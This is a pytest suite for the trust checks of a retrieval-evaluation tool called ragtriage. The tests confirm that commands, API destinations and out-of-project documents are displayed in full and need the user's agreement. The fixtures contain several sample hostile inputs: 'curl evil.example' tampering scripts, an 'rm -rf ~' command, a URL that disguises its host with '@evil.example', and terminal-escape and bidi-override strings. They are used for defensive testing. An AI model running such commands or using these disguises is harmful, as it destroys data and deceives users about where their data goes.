"""What a configuration would run or send is said whole, and counts as agreed only as it was shown."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from tests.soak import rounds
from tests.trusting import nothing_agreed, root

from ragtriage import trust
from ragtriage.config import AnswersConfig, Config, CorpusConfig, JudgeConfig, RetrievalConfig
from ragtriage.config_file import load_config
from ragtriage.errors import ConfigError, StorageError, Untrusted
from ragtriage.programs.identity import program_identity
from ragtriage.project import Project

__all__ = ["nothing_agreed", "root"]

URL = "http://127.0.0.1:8091/v1"


def answers(generator: Any = "openai", **more: Any) -> Config:
    return Config(answers=AnswersConfig(generator=generator, model="m", **more))


def command(*words: str) -> Config:
    return answers("command", command=words)


def refusal(root: Path, config: Config, **more: Any) -> str:
    with pytest.raises(Untrusted) as caught:
        trust.require(root, config, **more)
    return str(caught.value)


def agree(root: Path, config: Config) -> None:
    trust.agree(root, trust.settings(root, config))


def script(root: Path, text: str = "#!/bin/sh\n", name: str = "gen.py") -> Path:
    file = root / name
    file.write_text(text, encoding="utf-8")
    file.chmod(0o755)
    return file


# -- what is said


def sentence(root: Path, config: Config) -> str:
    (danger,) = trust.settings(root, config)
    return danger.sentence


def test_the_defaults_do_nothing_and_need_nothing(root: Path, tmp_path: Path) -> None:
    assert trust.settings(root, Config()) == ()
    trust.require(root, Config())
    # what is configured and not chosen does nothing
    assert trust.settings(root, answers("extractive", command=("rm",), base_url=URL)) == ()
    assert not (tmp_path / "home").exists()


@pytest.mark.parametrize(
    ("config", "said"),
    [
        (answers(), "answers: sends questions and passages to https://api.openai.com, with the key in $OPENAI_API_KEY"),
        (
            answers("anthropic"),
            "answers: sends questions and passages to https://api.anthropic.com, with the key in $ANTHROPIC_API_KEY",
        ),
        (
            Config(judge=JudgeConfig(provider="openai", model="m", base_url=URL)),
            f"judge: sends questions, passages and answers to {URL}, with the key in $OPENAI_API_KEY",
        ),
        (
            answers(base_url="https://llm.example/v1", api_key_env="AWS_SECRET_ACCESS_KEY"),
            "answers: sends questions and passages to https://llm.example/v1, with the key in $AWS_SECRET_ACCESS_KEY",
        ),
        (
            answers(base_url="http://llm.example:80/?tenant=a b"),
            'answers: sends questions and passages to "http://llm.example:80/?tenant=a b" (not encrypted),'
            " with the key in $OPENAI_API_KEY",
        ),
        (
            answers(base_url="https://api.openai.com:443@evil.example:8443/v1"),
            "answers: sends questions and passages to https://api.openai.com:443@evil.example:8443/v1"
            " (the host is evil.example:8443), with the key in $OPENAI_API_KEY",
        ),
    ],
)
def test_where_text_goes_with_which_key(root: Path, config: Config, said: str) -> None:
    assert sentence(root, config) == said


def test_a_variable_that_a_program_is_given_is_said_and_part_of_it(root: Path) -> None:
    agree(root, command("llm"))
    config = answers("command", command=("llm",), api_key_env="AWS_SECRET_ACCESS_KEY")
    assert sentence(root, config).endswith(': ["llm"], with $AWS_SECRET_ACCESS_KEY in its environment')
    refusal(root, config)
    refusal(root, config, typed={"answers.generator", "answers.command"})


def test_a_command_is_shown_word_by_word(root: Path) -> None:
    assert sentence(root, command("llm", "--flag", 'a "b" c')) == (
        f'answers: runs a program in {root}: ["llm", "--flag", "a \\"b\\" c"]'
    )


HOSTILE = "\n ok\r\x1b[2K\x1b]0;t\x07\x7f\x9b\u202e\u2066\u200b\u2028\u3164\ufe0f\U000e0041\udcff gеn"


@pytest.mark.parametrize(
    "config", [command("./a" + HOSTILE, HOSTILE), answers(base_url=URL + HOSTILE, api_key_env="K" + HOSTILE)]
)
def test_nothing_hides(root: Path, config: Config) -> None:
    said = sentence(root, config)
    assert said.isascii()
    assert said.isprintable()
    for seen in ("\\n ok", "\\u001b[2K", "\\u202e", "\\u200b", "\\u3164", "\\udcff", "g\\u0435n"):
        assert seen in said
    (danger,) = trust.settings(root, config)
    assert danger.summary.isascii()
    assert danger.summary.isprintable()
    assert len(refusal(root, config).splitlines()) == 3
    agree(root, config)
    trust.require(root, config)


def test_a_long_command_is_shown_whole_with_its_length(root: Path) -> None:
    words = ["sh", "-c", "true;" * 20_000 + "rm -rf ~"]
    said = refusal(root, command(*words))
    assert json.dumps(words) in said
    assert f"({len(json.dumps(words)):,} characters)" in said
    agree(root, command(*words))
    trust.require(root, command(*words))
    assert trust.trust_file().stat().st_size < 1000


def test_many_words_are_no_trouble(root: Path) -> None:
    agree(root, command(*["x"] * rounds(5_000, 50_000)))


def test_no_secret_is_kept(root: Path) -> None:
    agree(root, answers(base_url="https://user:hunter2@llm.example/v1?key=hunter3"))
    agree(root, command("./gen", "--token=hunter4"))
    kept = trust.trust_file().read_text(encoding="utf-8")
    assert "hunter" not in kept
    assert "sends to llm.example, key in $OPENAI_API_KEY" in kept


def test_passages_from_outside_the_project_are_said_and_part_of_it(root: Path, tmp_path: Path) -> None:
    agree(root, answers())
    for path in ("../secrets", str(tmp_path / "secrets")):
        said = refusal(root, Config(corpus=CorpusConfig(path=path), answers=answers().answers))
        assert f"; the passages are from {tmp_path / 'secrets'}, outside the project" in said
    (root / "docs").symlink_to(tmp_path / "secrets")
    assert "outside the project" in refusal(root, answers())


# -- what counts


@pytest.mark.parametrize(
    "changed",
    [
        answers(base_url=URL + "/"),
        answers(base_url=URL, api_key_env="HOME"),
        answers("anthropic", base_url=URL),
        command("gen"),
        Config(judge=JudgeConfig(provider="openai", model="m", base_url=URL)),
    ],
)
def test_any_change_asks_again(root: Path, changed: Config) -> None:
    config = answers(base_url=URL)
    refusal(root, config)
    agree(root, config)
    trust.require(root, config)
    refusal(root, changed)
    trust.require(root, config)


def test_what_is_neither_run_nor_sent_does_not_count(root: Path) -> None:
    agree(root, answers(base_url=URL))
    trust.require(root, answers(base_url=URL, temperature=1.0, max_tokens=9, command=("x",)))


def test_words_are_not_joined_before_they_are_compared(root: Path) -> None:
    agree(root, command("a", "b c"))
    for words in (("a", "b", "c"), ("a b c",), ("a", '"b c"')):
        refusal(root, command(*words))


def test_moving_the_project_and_deleting_the_state_ask_again(root: Path) -> None:
    agree(root, answers())
    moved = root.rename(root.with_name("moved"))
    refusal(moved, answers())
    agree(moved, answers())
    trust.trust_file().unlink()
    refusal(moved, answers())


def test_a_link_to_the_project_is_the_project(root: Path) -> None:
    link = root.with_name("link")
    link.symlink_to(root)
    agree(link, answers())
    trust.require(root, answers())


def test_only_what_is_about_to_be_done_is_asked_for(root: Path) -> None:
    both = Config(answers=answers().answers, judge=JudgeConfig(provider="openai", model="m", base_url=URL))
    agree(root, answers())
    trust.require(root, both, tables=("answers",))
    assert "answers:" not in refusal(root, both)
    assert "judge: sends" in refusal(root, both, tables=("judge",))


@pytest.mark.parametrize(
    ("config", "typed", "enough"),
    [
        (answers(), {"answers.generator"}, True),
        (answers(), {"answers.generator", "answers.model"}, True),
        (answers(api_key_env="OPENAI_API_KEY"), {"answers.generator"}, True),
        (answers(base_url=URL), {"answers.generator"}, False),
        (answers(base_url=URL), {"answers.base_url"}, False),
        (answers(base_url=URL), {"answers.generator", "judge.base_url"}, False),
        (answers(base_url=URL), {"answers.generator", "answers.base_url"}, True),
        (answers(base_url=URL, api_key_env="X"), {"answers.generator", "answers.base_url"}, False),
        (answers(base_url=URL, api_key_env="X"), {"answers.generator", "answers.base_url", "answers.api_key_env"}, True),
        (command("./gen.py"), {"answers.generator"}, False),
        (command("./gen.py"), {"answers.generator", "answers.command"}, True),
        (Config(corpus=CorpusConfig(path=".."), answers=answers().answers), {"answers.generator"}, False),
        (Config(corpus=CorpusConfig(path=".."), answers=answers().answers), {"answers.generator", "corpus.path"}, True),
        (Config(judge=JudgeConfig(provider="command", command=("x",))), {"answers.generator", "answers.command"}, False),
    ],
)
def test_what_was_typed_is_agreed_to_and_nothing_else(root: Path, config: Config, typed: set[str], enough: bool) -> None:
    assert (trust.untrusted(root, config, typed=typed) == ()) is enough
    if not enough:
        refusal(root, config, typed=typed)
    assert not trust.trust_file().exists()


@pytest.mark.parametrize(
    ("value", "agrees"), [("1", True), ("true", True), ("", False), ("0", False), ("yes", False), ("1 ", False)]
)
def test_the_variable_agrees_for_this_process(root: Path, monkeypatch: pytest.MonkeyPatch, value: str, agrees: bool) -> None:
    monkeypatch.setenv("RAGTRIAGE_TRUST", value)
    if agrees:
        trust.require(root, answers())
    else:
        assert ("RAGTRIAGE_TRUST is" in refusal(root, answers())) is bool(value)
    trust.require(root, answers(), agreed=True)
    assert not trust.trust_file().exists()


def test_the_refusal_says_all_of_it_and_what_to_do(root: Path) -> None:
    said = refusal(root, Config(answers=answers().answers, judge=JudgeConfig(provider="command", command=("j", "\n"))))
    assert said.splitlines()[:3] == [
        f"{root}: its configuration would do what you have not agreed to; nothing was run, read or sent:",
        "  answers: sends questions and passages to https://api.openai.com, with the key in $OPENAI_API_KEY",
        f'  judge: runs a program in {root}: ["j", "\\n"]',
    ]
    for way in ("`ragtriage trust`", "--trust", "RAGTRIAGE_TRUST=1"):
        assert way in said.splitlines()[3]


# -- files that a command names


@pytest.mark.parametrize(
    "word", ["./gen.py", "gen.py", "--script=gen.py", "sub/../gen.py", "{root}/gen.py", "{root}/../project/gen.py"]
)
def test_another_program_under_the_same_name_asks_again(root: Path, word: str) -> None:
    (root / "sub").mkdir()
    script(root)
    config = command("python3", word.format(root=root))
    assert " is sha256 " in sentence(root, config)
    agree(root, config)
    trust.require(root, config)
    script(root, "#!/bin/sh\ncurl evil.example\n")
    refusal(root, config)


@pytest.mark.parametrize(
    ("words", "file"),
    [
        (("sh", "-c", "exec python3 'tools/answer.py' && true"), "tools/answer.py"),
        (("sh", "-c", "python3<tools/answer.py"), "tools/answer.py"),
        (("python3", "-m", "tools.answer"), "tools/answer.py"),
        (("python3", "-mtools"), "tools/__init__.py"),
        (("python3", "-m", "tools"), "tools/__main__.py"),
        (("python3", "tools"), "tools/__main__.py"),
    ],
)
def test_a_file_that_a_shell_or_python_would_take_is_part_of_it(root: Path, words: tuple[str, ...], file: str) -> None:
    (root / "tools").mkdir()
    script(root, name=file)
    config = command(*words)
    agree(root, config)
    trust.require(root, config)
    script(root, "#!/bin/sh\ncurl evil.example\n", name=file)
    refusal(root, config)


EDITED = [
    (("python3", "-um", "tools.gen"), "tools/gen.py"),
    (("python3", "-Im", "tools.gen"), "tools/gen.py"),
    (("python3", "-uBmtools.gen"), "tools/gen.py"),
    (("env", "-C", "tools", "python3", "-um", "gen"), "tools/gen.py"),
    (("sh", "-c", "python3 -um tools.gen"), "tools/gen.py"),
    (("sh", "-c", "cd tools && ./s.sh"), "tools/s.sh"),
    (("sh", "-c", "cd -P 'too'ls; exec ./s.sh"), "tools/s.sh"),
    (("sh", "-c", "cd t*s; ./s.sh"), "tools/s.sh"),
    (("sh", "-c", "cd tools\ncd deep\n./s.sh"), "tools/deep/s.sh"),
    (("env", "-C", "tools", "./s.sh"), "tools/s.sh"),
    (("env", "-iC", "tools", "./s.sh"), "tools/s.sh"),
    (("env", "--chdir=tools", "./s.sh"), "tools/s.sh"),
    (("env", "-S", 'sh "tools"/s.sh'), "tools/s.sh"),
    (("sh", "-c", "./tools/*.sh"), "tools/s.sh"),
    (("sh", "-c", "./*/[^a].s?"), "tools/s.sh"),
    (("sh", "-c", "$PWD/tools/s.sh"), "tools/s.sh"),
    (("sh", "-c", '"${PWD}"/tools/s.sh'), "tools/s.sh"),
    (("sh", "-c", './to""ols/s.sh'), "tools/s.sh"),
    (("sh", "-c", "./to\\ols/s.sh"), "tools/s.sh"),
    (("bash", "-lc", """exec sh -c 'cd tools; "./s.sh"'"""), "tools/s.sh"),
]
UNTOLD = [
    (("sh", "-c", 'for name in s; do "./tools/$name.sh"; done'), "tools/s.sh"),
    (("sh", "-c", "cd tools && ./$(echo s).sh"), "tools/s.sh"),
    (("sh", "-c", "cd tools && `echo ./s.sh`"), "tools/s.sh"),
    (("sh", "-c", "cd tools; cd -; ls"), "tools/s.sh"),
    (("bash", "-c", "./tools/{s,t}.sh"), "tools/s.sh"),
    (("sh", "-c", "ls tools | xargs -I% sh tools/%"), "tools/s.sh"),
    (("sh", "-c", "PATH=tools run"), "tools/run"),
    (("sh", "-c", "ls tools/deep/*.none tools"), "tools/deep/s.pl"),
]


@pytest.mark.parametrize(("words", "file"), [*EDITED, *UNTOLD])
def test_a_file_that_a_shell_or_python_would_find_counts_for_trust_and_for_answers(
    root: Path, words: tuple[str, ...], file: str
) -> None:
    (root / "tools" / "deep").mkdir(parents=True)
    script(root, name=file)
    assert ("not all of them are covered" in sentence(root, command(*words))) == ((words, file) in UNTOLD)
    agree(root, command(*words))
    trust.require(root, command(*words))
    before = program_identity(root, words)
    script(root, "#!/bin/sh\ncurl evil.example\n", name=file)
    refusal(root, command(*words))
    assert program_identity(root, words) != before


def test_what_no_shell_reads_is_told_whole(root: Path) -> None:
    for words in (("llm", "a $b *"), ("./$gen", "`x`"), ("python3", "-c", "print('$x')"), ("sh", "gen.sh", "$x")):
        assert "covered" not in sentence(root, command(*words))


def test_a_command_of_a_shell_that_cannot_be_read_is_bounded_and_said(root: Path) -> None:
    for text in (
        "'",
        "true;" * 20_000,
        "cd a;cd b;cd c;cd d;cd e",
        "/*/*/*/*",
        "../*/x",
        "true # it's",
        "printf 'ls' | /bin/sh",
    ):
        assert "covered" in sentence(root, command("sh", "-c", text))


def test_a_program_that_appears_later_asks_again(root: Path) -> None:
    agree(root, command("./gen.py"))
    script(root)
    refusal(root, command("./gen.py"))


def test_links_are_followed_and_where_they_lead_counts(root: Path, tmp_path: Path) -> None:
    inside, outside = script(root, name="real.py"), script(tmp_path, name="outside.py")
    link = root / "gen.py"
    link.symlink_to(inside)
    agree(root, command("./gen.py"))
    script(root, "changed", name="real.py")
    refusal(root, command("./gen.py"))
    link.unlink()
    link.symlink_to(outside)
    assert f'"./gen.py" is a link to {outside}' in sentence(root, command("./gen.py"))
    agree(root, command("./gen.py"))
    script(tmp_path, "the machine's own", name="outside.py")
    trust.require(root, command("./gen.py"))
    link.unlink()
    link.symlink_to("/bin/sh")
    refusal(root, command("./gen.py"))
    # a link elsewhere that leads into the project
    (tmp_path / "in").symlink_to(inside)
    assert " is sha256 " in sentence(root, command(str(tmp_path / "in")))


def test_a_bare_name_that_is_found_in_the_project(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (root / "bin").mkdir()
    for place in (str(root / "bin"), "bin"):
        monkeypatch.setenv("PATH", f"{place}:/usr/bin:/bin")
        script(root / "bin", name="gen")
        assert " is sha256 " in sentence(root, command("gen"))
        agree(root, command("gen"))
        script(root / "bin", f"changed {place}", name="gen")
        refusal(root, command("gen"))
    assert " is " not in sentence(root, command("sh"))


def test_words_that_name_no_file(root: Path) -> None:
    (root / "folder").mkdir()
    os.mkfifo(root / "pipe")
    (root / "loop").symlink_to("loop")
    (root / "file").write_text("", encoding="utf-8")
    agree(root, command("folder", "pipe", "loop", "file/below", "x" * 5000, "", "/", "..", "=", "a=b"))


def test_a_file_that_cannot_be_read_cannot_be_agreed_to(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any) -> int:
        raise PermissionError(13, "Permission denied")

    script(root)
    monkeypatch.setattr("ragtriage.program_files.os.open", refuse)
    with pytest.raises(Untrusted, match=r'"./gen.py" cannot be read \(Permission denied\), so nobody can agree to it'):
        agree(root, command("./gen.py"))
    assert "cannot be read" in refusal(root, command("./gen.py"))
    trust.require(root, command("./gen.py"), agreed=True)


# -- the file


def test_revoking_forgets_this_project_only(root: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    for folder in (root, other):
        agree(folder, answers())
        agree(folder, command("x"))
        agree(folder, command("x"))
    found, problems = trust.agreements()
    assert ([one.root for one in found], problems) == ([str(root)] * 2 + [str(other)] * 2, [])
    assert trust.revoke(root) == 2
    assert trust.revoke(root) == 0
    refusal(root, answers())
    trust.require(other, answers())


@pytest.mark.parametrize("name", ["with space", 'with "quotes"', "new\nline", "\u202egnp", "\udcff", "文書"])
def test_folders_of_any_name(tmp_path: Path, name: str) -> None:
    root = tmp_path / name
    root.mkdir()
    refusal(root, answers())
    agree(root, answers())
    trust.require(root, answers())
    assert len(trust.agreements()[0]) == 1
    assert trust.revoke(root) == 1


def test_revoking_makes_no_folder(root: Path, tmp_path: Path) -> None:
    assert trust.revoke(root) == 0
    assert not (tmp_path / "home").exists()


@pytest.mark.parametrize(
    "data",
    [b"\x00\xff\xfe\n", b"[]\n", b'{"digest": 1}\n', b'{"dig', b"<<<<<<< x\n", b"\xff\xfex\n", b"[" * 100_000, b"x\n" * 9],
)
def test_a_broken_file_agrees_to_nothing_and_is_said(root: Path, data: bytes) -> None:
    agree(root, answers())
    good = trust.trust_file().read_bytes()
    trust.trust_file().write_bytes(data)
    said = refusal(root, answers())
    assert str(trust.trust_file()) in said
    assert "counts for nothing" in said
    assert len(said) < 2000
    if not data.startswith(b"\xff\xfe"):  # all of such a file would be read in another way
        agree(root, answers())
        trust.require(root, answers())
        trust.trust_file().write_bytes(data + b"\n" + good)
        trust.require(root, answers())


def test_a_digest_without_the_rest_is_no_agreement_and_does_not_keep_one_out(root: Path) -> None:
    (danger,) = trust.settings(root, answers())
    trust.trust_file().parent.mkdir(parents=True)
    trust.trust_file().write_text(json.dumps({"digest": danger.digest}) + "\n", encoding="utf-8")
    refusal(root, answers())
    agree(root, answers())
    trust.require(root, answers())


def test_a_file_that_cannot_be_read_agrees_to_nothing(root: Path) -> None:
    trust.trust_file().mkdir(parents=True)
    said = refusal(root, answers())
    assert f"{trust.trust_file()}: cannot be read: " in said
    assert "; what stood there counts for nothing" in said
    with pytest.raises(StorageError):
        agree(root, answers())


def test_a_state_folder_that_cannot_be_written(root: Path, tmp_path: Path) -> None:
    (tmp_path / "home").write_text("a file", encoding="utf-8")
    with pytest.raises(StorageError, match="nothing was kept"):
        agree(root, answers())
    (tmp_path / "home").unlink()
    state = trust.trust_file().parent
    state.mkdir(parents=True)
    state.chmod(0o555)
    with pytest.raises(StorageError, match="read-only or not yours to write; nothing was kept"):
        agree(root, answers())
    state.chmod(0o755)
    refusal(root, answers())


def test_a_trust_file_that_the_project_brings_along_counts_for_nothing(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    agree(root, answers())
    brought = trust.trust_file().read_bytes()
    for home in (root, root / "deep"):
        monkeypatch.setenv("RAGTRIAGE_HOME", str(home))
        trust.trust_file().parent.mkdir(parents=True)
        trust.trust_file().write_bytes(brought)
        assert "which could have brought it along; what stood there counts for nothing" in refusal(root, answers())
        with pytest.raises(StorageError, match="RAGTRIAGE_HOME"):
            agree(root, answers())


_AGREE = """
import sys
from pathlib import Path
from ragtriage import trust
from ragtriage.config import AnswersConfig, Config
root, name, count = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3])
for number in range(count):
    config = Config(answers=AnswersConfig(generator="command", command=(name, str(number))))
    trust.agree(root, trust.settings(root, config))
    trust.require(root, config)
"""


def test_two_writers_at_once_lose_nothing(root: Path) -> None:
    count = rounds(20, 300)
    writers = [subprocess.Popen([sys.executable, "-c", _AGREE, str(root), name, str(count)]) for name in "ab"]
    assert [writer.wait() for writer in writers] == [0, 0]
    found, problems = trust.agreements()
    assert (len(found), problems) == (2 * count, [])
    for name in "ab":
        for number in range(count):
            trust.require(root, command(name, str(number)))


# -- the configuration


@pytest.mark.parametrize(
    "url",
    [
        "ftp://x", "http://", "https:///x", "http://a b", "http://x\n", "http://x\\@y", "http://x/\u202e", "http://éx", "http://x:y",
        "http://a@b@c", "http://#@x", "//x", "http://x/a b", "http://[::1", "http://x\x7f", "http://x#@y",
    ],
)  # fmt: skip
def test_what_is_no_address_is_an_error(tmp_path: Path, url: str) -> None:
    with pytest.raises(ConfigError) as caught:
        load_config(None, [f"answers.base_url={json.dumps(url)}"])
    assert "is no address" in str(caught.value)
    assert str(caught.value).isascii()
    assert str(caught.value).isprintable()


@pytest.mark.parametrize("url", ["http://127.0.0.1:8091/v1", "https://x", "http://[::1]:80", "http://my_host/v1"])
def test_what_is_an_address(url: str) -> None:
    assert load_config(None, [f"judge.base_url={url}"]).judge.base_url == url


@pytest.mark.parametrize("name", ["sk-proj-1234", "A B", "é", "1X", "X=1", "X\u202e"])
def test_a_key_in_the_place_of_its_variable_is_an_error_that_does_not_show_it(name: str) -> None:
    with pytest.raises(ConfigError) as caught:
        load_config(None, [f"answers.api_key_env={json.dumps(name)}"])
    assert "never the key itself" in str(caught.value)
    assert name not in str(caught.value)


def test_the_packages_around_a_module_run_before_it_and_belong_to_it(root: Path) -> None:
    (root / "app" / "deep").mkdir(parents=True)
    for name in ("__init__.py", "deep/__init__.py", "deep/rag.py"):
        (root / "app" / name).write_text("", encoding="utf-8")
    for config in (
        command("python3", "-m", "app.deep.rag"),
        Config(retrieval=RetrievalConfig(system="python", callable="app.deep.rag:f")),
    ):
        agree(root, config)
        trust.require(root, config)
        for name in ("app/__init__.py", "app/deep/__init__.py"):
            with (root / name).open("a", encoding="utf-8") as file:
                file.write("import os\n")
            refusal(root, config)
            agree(root, config)


# -- documents outside the project


def test_documents_outside_the_project_are_read_with_the_users_word_only(root: Path) -> None:
    (root.parent / "secret").mkdir()
    (root.parent / "secret" / "key.md").write_text("# Key\n\nhunter2", encoding="utf-8")
    (root / "evals").mkdir()
    (root / "evals" / "golden.jsonl").write_text("", encoding="utf-8")
    (root / "ragtriage.toml").write_text('[corpus]\npath = "../secret"\n[retrieval]\nmode = "bm25"\n', encoding="utf-8")
    with pytest.raises(Untrusted, match=f"reads the documents in {root.parent / 'secret'}, outside the project"):
        _ = Project.open(root).corpus
    assert [document.doc_id for document in Project.open(root, overrides=["corpus.path=../secret"]).corpus.documents] == ["key"]
    agree(root, load_config(root / "ragtriage.toml"))
    assert [document.doc_id for document in Project.open(root).corpus.documents] == ["key"]
    (root / "ragtriage.toml").write_text('[corpus]\npath = ".."\n[retrieval]\nmode = "bm25"\n', encoding="utf-8")
    with pytest.raises(Untrusted):
        _ = Project.open(root).corpus


def test_a_link_to_documents_outside_is_no_way_around(root: Path) -> None:
    (root.parent / "secret").mkdir()
    (root / "docs").symlink_to(root.parent / "secret")
    (root / "ragtriage.toml").write_text("", encoding="utf-8")
    with pytest.raises(Untrusted, match="outside the project"):
        _ = Project.open(root).corpus


def test_a_linked_file_of_a_beir_set_is_no_way_around(root: Path) -> None:
    (root.parent / "secret.jsonl").write_text('{"_id": "a", "text": "hunter2"}\n', encoding="utf-8")
    (root / "queries.jsonl").write_text('{"_id": "q", "text": "which"}\n', encoding="utf-8")
    (root / "corpus.jsonl").symlink_to(root.parent / "secret.jsonl")
    with pytest.raises(Untrusted, match=r"secret\.jsonl, outside the project"):
        _ = Project.open(root).corpus
    assert len(Project.open(root, trusted=True).corpus.documents) == 1


def test_runs_are_not_written_through_a_link_out_of_the_project(root: Path) -> None:
    (root.parent / "elsewhere").mkdir()
    (root / ".ragtriage").symlink_to(root.parent / "elsewhere")
    (root / "ragtriage.toml").write_text("", encoding="utf-8")
    with pytest.raises(ConfigError, match="a link out of the project"):
        Project.open(root)
